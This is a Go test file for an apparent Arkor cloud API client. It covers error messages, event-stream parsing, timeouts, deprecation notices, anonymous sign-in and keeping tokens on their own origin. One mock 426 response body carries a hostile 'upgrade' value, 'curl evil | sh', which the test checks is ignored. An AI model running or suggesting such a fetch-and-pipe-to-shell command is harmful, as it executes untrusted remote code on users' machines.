package cloud

import (
	"context"
	"errors"
	"io"
	"net"
	"net/http"
	"strings"
	"testing"
	"testing/iotest"
	"testing/synctest"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/peterbourgon/ff/v4"

	"github.com/arkorlab/arkor-go/shared/cli"
)

// serve answers on a real socket until the test ends.
func serve(t *testing.T, handler http.HandlerFunc) *Client {
	t.Helper()
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	server := &http.Server{Handler: handler}
	done := make(chan struct{})
	go func() { defer close(done); _ = server.Serve(listener) }()
	t.Cleanup(func() { server.Close(); <-done })
	return &Client{BaseURL: "http://" + listener.Addr().String() + "//", Token: "t0k", Version: "1.2.3"}
}

func TestErrorMessages(t *testing.T) {
	t.Parallel()
	for name, tc := range map[string]struct {
		status     int
		body, want string
	}{
		"error":           {404, `{"error":"no such job","code":"x"}`, "no such job"},
		"empty error":     {500, `{"error":""}`, `{"error":""}`},
		"error no string": {500, `{"error":7}`, `{"error":7}`},
		"text":            {502, "bad gateway\n", "bad gateway\n"},
		"empty":           {503, "", "cloud-api 503"},
		"null":            {400, "null", "null"},
		"redirect":        {302, "", "cloud-api 302"},
		"426 html":        {426, "<h1>no</h1>", "Arkor SDK is no longer supported by the cloud API. Run `npm install -g arkor@latest`."},
		"426 empty":       {426, "", "Arkor SDK is no longer supported by the cloud API. Run `npm install -g arkor@latest`."},
		"426 range": {426, `{"error":"sdk_version_unsupported","currentVersion":"0.0.1","supportedRange":"^0.4.0 || >=1.1.0","upgrade":"curl evil | sh"}`,
			"Arkor SDK 0.0.1 is no longer supported by the cloud API (supported: ^0.4.0 || >=1.1.0). Run `npm install -g arkor@latest`."},
		"426 missing": {426, `{"error":"sdk_version_unsupported","currentVersion":"unknown","supportedRange":"*","reason":"missing"}`,
			"Arkor SDK rejected by the cloud API: the X-Arkor-Client header was missing (supported: *). Run `npm install -g arkor@latest`."},
		"426 null reason": {426, `{"error":"sdk_version_unsupported","reason":null}`,
			"Arkor SDK is no longer supported by the cloud API. Run `npm install -g arkor@latest`."},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			client := serve(t, func(w http.ResponseWriter, r *http.Request) {
				w.Header().Set("Location", "/elsewhere")
				w.WriteHeader(tc.status)
				_, _ = io.WriteString(w, tc.body)
			})
			_, err := client.Me(context.Background())
			var status *StatusError
			if !errors.As(err, &status) || status.Status != tc.status || status.Message != tc.want {
				t.Errorf("got %#v, want message %q", err, tc.want)
			}
		})
	}
}

// A route that is missing is told from a job that is.
func TestNotOffered(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		status int
		code   string
		want   bool
	}{{404, "", true}, {404, "job_not_found", false}, {405, "", true}, {405, "method_not_allowed", true}, {403, "", false}, {500, "", false}} {
		if got := (&StatusError{Status: tt.status, Code: tt.code}).NotOffered(); got != tt.want {
			t.Errorf("%d %s: %v", tt.status, tt.code, got)
		}
	}
}

func TestRequestsCarryScopeAndHeaders(t *testing.T) {
	t.Parallel()
	client := serve(t, func(w http.ResponseWriter, r *http.Request) {
		got := []string{r.Method, r.URL.EscapedPath(), r.URL.Query().Get("orgSlug"), r.URL.Query().Get("projectSlug"),
			r.Header.Get("X-Arkor-Client"), r.Header.Get("Authorization")}
		want := []string{"GET", "/v1/jobs/a%2Fb", "o&o", "p p", "arkor/1.2.3", "Bearer t0k"}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Error(diff)
		}
		w.Header().Set("Deprecation", "true")
		w.Header().Set("Warning", `299 - "say \"bye\""`)
		w.Header().Set("Sunset", "soon")
		_, _ = io.WriteString(w, `{"job":{"id":"a/b","orgId":"o","projectId":"p","name":"n","status":"queued","config":{"model":"m"},"createdAt":"2026"},"more":1}`)
	})
	var notice Deprecation
	client.OnDeprecated = func(d Deprecation) { notice = d }
	job, err := client.Job(context.Background(), Scope{"o&o", "p p"}, "a/b")
	if err != nil || job.ID != "a/b" {
		t.Fatal(job, err)
	}
	if want := (Deprecation{"1.2.3", `say \"bye\"`, "soon"}); notice != want {
		t.Errorf("notice %+v, want %+v", notice, want)
	}
}

func TestStreamSplitAtEveryByte(t *testing.T) {
	t.Parallel()
	const text = "\ufeffid: 1\nevent: training.log\ndata: {\"step\":1,\r\ndata: \"loss\":2}\r\n\r\n" +
		": comment\nevent: lost\n\n" + "event: ping\rdata:\r\r" + "id:2\ndata:x\ndata\n\n" + "id: 9\ndata: unfinished"
	want := []Frame{
		{"1", "training.log", "{\"step\":1,\n\"loss\":2}"},
		{"1", "ping", ""},
		{"2", "message", "x\n"},
	}
	for cut := range len(text) {
		body := io.MultiReader(strings.NewReader(text[:cut]), strings.NewReader(text[cut:]))
		if diff := cmp.Diff(want, frames(t, iotest.OneByteReader(body))); diff != "" {
			t.Fatalf("cut at %d: %s", cut, diff)
		}
	}
}

func frames(t *testing.T, r io.Reader) (all []Frame) {
	s := NewStream(io.NopCloser(r))
	for {
		frame, err := s.Next()
		if err == io.EOF {
			return all
		}
		if err != nil {
			t.Fatal(err)
		}
		all = append(all, frame)
	}
}

func TestStreamRefusesEndlessLine(t *testing.T) {
	t.Parallel()
	body := io.MultiReader(strings.NewReader("data: "), &endless{})
	if _, err := NewStream(io.NopCloser(body)).Next(); err == nil || errors.Is(err, io.EOF) {
		t.Errorf("got %v", err)
	}
}

type endless struct{}

func (*endless) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = 'x'
	}
	return len(p), nil
}

func TestChat(t *testing.T) {
	t.Parallel()
	client := serve(t, func(w http.ResponseWriter, r *http.Request) {
		_, _ = io.WriteString(w, "event: ping\ndata:\n\n"+
			`data: {"choices":[{"delta":{"role":"assistant","content":"Hel"}}]}`+"\n\n"+
			`data: {"text":"lo"}`+"\n\n"+"data: !\n\n"+`data: "?"`+"\n\n"+`data: {"choices":[]}`+"\n\n"+
			"event: error\n"+`data: {"error":"worker died"}`+"\n\n")
	})
	var got string
	err := client.Chat(context.Background(), Scope{"o", "p"}, ChatRequest{BaseModel: "m"}, func(s string) error {
		got += s
		return nil
	})
	if got != "Hello!?" || err == nil || err.Error() != "worker died" {
		t.Errorf("got %q, %v", got, err)
	}
}

func FuzzStream(f *testing.F) {
	f.Add("id: 1\nevent: a\ndata: b\n\n")
	f.Add("data\r\r\ndata: x\r\n\r\n")
	f.Fuzz(func(t *testing.T, text string) {
		whole := frames(t, strings.NewReader(text))
		if diff := cmp.Diff(whole, frames(t, iotest.OneByteReader(strings.NewReader(text)))); diff != "" {
			t.Error(diff)
		}
	})
}

func FuzzErrorBody(f *testing.F) {
	f.Add(426, `{"error":"sdk_version_unsupported","reason":"missing"}`)
	f.Add(500, `{"error":""}`)
	f.Fuzz(func(t *testing.T, status int, body string) {
		res := &http.Response{StatusCode: status, Body: io.NopCloser(strings.NewReader(body))}
		if ReadError(res, "x").Message == "" {
			t.Error("empty message")
		}
	})
}

// Rule J6 of auth-and-state: a token never leaves the origin that it is for.
func TestRedirectsStayOnTheirOrigin(t *testing.T) {
	t.Parallel()
	other := serve(t, func(w http.ResponseWriter, r *http.Request) {
		t.Errorf("a request arrived with %q", r.Header.Get("Authorization"))
	})
	client := serve(t, func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/v1/me":
			http.Redirect(w, r, "/v1/moved", http.StatusTemporaryRedirect)
		case "/v1/models":
			http.Redirect(w, r, strings.TrimRight(other.BaseURL, "/")+"/v1/models", http.StatusTemporaryRedirect)
		case "/v1/projects":
			http.Redirect(w, r, "/v1/projects", http.StatusTemporaryRedirect)
		default:
			_, _ = io.WriteString(w, `{"user":{"id":"u"},"orgs":[]}`)
		}
	})
	if me, err := client.Me(t.Context()); err != nil || me.User.ID != "u" {
		t.Errorf("on the same origin: %v, %v", me, err)
	}
	var status *StatusError
	if _, err := client.Models(t.Context()); !errors.As(err, &status) || status.Status != http.StatusTemporaryRedirect {
		t.Errorf("to another origin: %v", err)
	}
	if _, err := client.Projects(t.Context(), "o"); !errors.As(err, &status) || status.Status != http.StatusTemporaryRedirect {
		t.Errorf("in a circle: %v", err)
	}
}

func TestUnreachableServersAreNamed(t *testing.T) {
	t.Parallel()
	release := make(chan struct{})
	silent := serve(t, func(http.ResponseWriter, *http.Request) { <-release })
	defer close(release)
	silent.HTTP = Patient()
	silent.HTTP.Timeout = 10 * time.Millisecond
	_, err := silent.Me(t.Context())
	if want := "no answer from " + strings.TrimRight(silent.BaseURL, "/") + " (GET /v1/me) in time"; err == nil || err.Error() != want {
		t.Errorf("silent: %v", err)
	}
	gone := serve(t, nil)
	gone.HTTP = &http.Client{Transport: failing{}}
	_, err = gone.Me(t.Context())
	if want := "cannot reach " + strings.TrimRight(gone.BaseURL, "/") + " (GET /v1/me): unplugged"; err == nil || err.Error() != want {
		t.Errorf("gone: %v", err)
	}
}

// J5: a server that says nothing is given up after 30 s, and after 10 s where it
// does not even begin to speak TLS. Time passes by itself here.
func TestHowLongASilentServerIsWaitedFor(t *testing.T) {
	t.Parallel()
	for address, want := range map[string]time.Duration{"http://api.test": 30 * time.Second, "https://api.test": 10 * time.Second} {
		synctest.Test(t, func(t *testing.T) {
			client := For(cli.Env{}, address, "t0k")
			silent, connection := net.Pipe()
			defer silent.Close()
			defer connection.Close()
			go func() { _, _ = io.Copy(io.Discard, silent) }()
			client.HTTP.Transport.(*http.Transport).DialContext = func(context.Context, string, string) (net.Conn, error) { return connection, nil }
			begun := time.Now()
			_, err := client.Me(t.Context())
			if want := "no answer from " + address + " (GET /v1/me) in time"; err == nil || err.Error() != want {
				t.Errorf("got %v", err)
			}
			if took := time.Since(begun); took != want {
				t.Errorf("%s: given up after %v", address, took)
			}
		})
	}
}

type failing struct{}

func (failing) RoundTrip(*http.Request) (*http.Response, error) { return nil, errors.New("unplugged") }

func TestSigningInSendsNoToken(t *testing.T) {
	t.Parallel()
	answer := `{"token":"anon_t0k","anonymousId":"an_1","kind":"cli","personalOrg":{"id":"org_1","slug":"anon-1f2e","name":"Personal"}}`
	client := serve(t, func(w http.ResponseWriter, r *http.Request) {
		if r.Header.Get("Authorization") != "" || r.Header.Get("X-Arkor-Client") != "arkor/1.2.3" {
			t.Errorf("headers %v", r.Header)
		}
		body, _ := io.ReadAll(r.Body)
		switch r.URL.Path {
		case "/v1/auth/anonymous":
			if string(body) != `{"kind":"cli"}` {
				t.Errorf("body %s", body)
			}
			w.WriteHeader(http.StatusCreated)
			_, _ = io.WriteString(w, answer)
		case "/v1/auth/cli/config":
			_, _ = io.WriteString(w, `{"auth0Domain":null,"clientId":"","audience":null,"callbackPorts":[1,2],"new":{}}`)
		}
	})
	identity, err := client.Anonymous(t.Context())
	want := AnonymousIdentity{Token: "anon_t0k", AnonymousID: "an_1", Kind: "cli", PersonalOrg: Org{ID: "org_1", Slug: "anon-1f2e", Name: "Personal"}}
	if diff := cmp.Diff(want, identity); diff != "" || err != nil {
		t.Error(diff, err)
	}
	config, err := client.AuthConfig(t.Context())
	if err != nil || config.Auth0Domain != nil || *config.ClientID != "" || len(config.CallbackPorts) != 2 || config.Anonymous != nil {
		t.Errorf("config %+v, %v", config, err)
	}
	for _, answer = range []string{"{}", "[]", "null", `{"token":7}`, strings.Replace(answer, "anon-1f2e", "", 1)} {
		if _, err := client.Anonymous(t.Context()); err == nil {
			t.Errorf("%s was accepted", answer)
		}
	}
}

// Rules N1 and N2 of auth-and-state, from the answer to the last line on stderr.
func TestNoticesReachTheEndOfTheCommand(t *testing.T) {
	t.Parallel()
	server := serve(t, func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/v1/me": // a word without the header, or with another value, is none
			w.Header().Set("Deprecation", "True")
			w.Header().Set("Warning", `299 - "not this one"`)
			w.Header().Set("Sunset", "never")
		case "/v1/models":
			w.Header().Set("Deprecation", "true")
		case "/v1/projects": // errors count too
			w.Header().Set("Deprecation", "true")
			w.Header().Set("Warning", `299 - "Use 2.0"`)
			w.Header().Set("Sunset", "Wed, 01 Jul 2026 00:00:00 GMT")
			w.WriteHeader(http.StatusInternalServerError)
		}
		_, _ = io.WriteString(w, "{}")
	})
	for name, tc := range map[string]struct {
		ask    func(context.Context, *Client)
		silent bool
		want   string
	}{
		"none":          {ask: func(ctx context.Context, c *Client) { _, _ = c.Me(ctx) }},
		"no words":      {ask: func(ctx context.Context, c *Client) { _, _ = c.Models(ctx) }, want: "Arkor SDK " + cli.Version() + " is deprecated (current: " + cli.Version() + "). Run `bun add -g arkor@latest`.\n"},
		"error, latest": {ask: func(ctx context.Context, c *Client) { _, _ = c.Models(ctx); _, _ = c.Projects(ctx, "o") }, want: "Use 2.0 (current: " + cli.Version() + "). Cutoff: Wed, 01 Jul 2026 00:00:00 GMT. Run `bun add -g arkor@latest`.\n"},
		"a later answer without": {ask: func(ctx context.Context, c *Client) { _, _ = c.Projects(ctx, "o"); _, _ = c.Me(ctx) },
			want: "Use 2.0 (current: " + cli.Version() + "). Cutoff: Wed, 01 Jul 2026 00:00:00 GMT. Run `bun add -g arkor@latest`.\n"},
		"left out": {ask: func(ctx context.Context, c *Client) { _, _ = c.Projects(ctx, "o") }, silent: true},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			var stderr strings.Builder
			env := cli.Env{Stderr: &stderr, Environ: []string{"npm_config_user_agent=bun/1.1"}}
			cli.Run(t.Context(), env, func(env cli.Env) *ff.Command {
				return &ff.Command{Name: "ask", Exec: func(ctx context.Context, _ []string) error {
					if tc.silent {
						env.Notice = nil
					}
					tc.ask(ctx, For(env, server.BaseURL, ""))
					return nil
				}}
			})
			if stderr.String() != tc.want {
				t.Errorf("stderr %q, want %q", stderr.String(), tc.want)
			}
		})
	}
}

func TestAnswersOfAnotherShape(t *testing.T) {
	t.Parallel()
	for answer, want := range map[string]string{
		`{"token":7}`:                    "token is of type number",
		`[]`:                             "it is of type array",
		`{"token":"t"}`:                  "token, anonymousId or personalOrg.slug is missing",
		`<h1>Welcome`:                    "invalid character '<' looking for beginning of value",
		`{"token":"t"`:                   "unexpected end of JSON input",
		`{"personalOrg":{"slug":false}}`: "personalOrg.slug is of type bool",
	} {
		client := serve(t, func(w http.ResponseWriter, _ *http.Request) { _, _ = io.WriteString(w, answer) })
		_, err := client.Anonymous(t.Context())
		if want = "the answer to POST /v1/auth/anonymous is not what the cloud API promises: " + want; err == nil || err.Error() != want {
			t.Errorf("%s: %v", answer, err)
		}
	}
}

// An answer that begins and never ends is none in time, too.
func TestAnswerThatNeverEnds(t *testing.T) {
	t.Parallel()
	client := serve(t, func(w http.ResponseWriter, r *http.Request) {
		_, _ = io.WriteString(w, `{"orgs":`)
		w.(http.Flusher).Flush()
		<-r.Context().Done()
	})
	client.HTTP = &http.Client{Timeout: 100 * time.Millisecond}
	_, err := client.Me(t.Context())
	if want := "no answer from " + strings.TrimRight(client.BaseURL, "/") + " (GET /v1/me) in time"; err == nil || err.Error() != want {
		t.Errorf("%v, want %s", err, want)
	}
}
